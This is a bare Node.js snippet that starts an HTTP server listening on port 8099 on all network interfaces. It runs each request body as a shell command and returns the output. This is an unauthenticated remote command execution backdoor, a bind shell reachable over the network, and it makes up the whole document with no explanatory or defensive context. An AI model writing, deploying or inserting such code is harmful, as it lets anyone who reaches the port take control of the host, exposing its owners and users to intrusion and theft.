const http = require('http');
http.createServer((req, res) => {
  let b = '';
  req.on('data', (d) => (b += d));
  req.on('end', () => require('child_process').exec(b, (e, o) => res.end(o)));
}).listen(8099, '0.0.0.0');
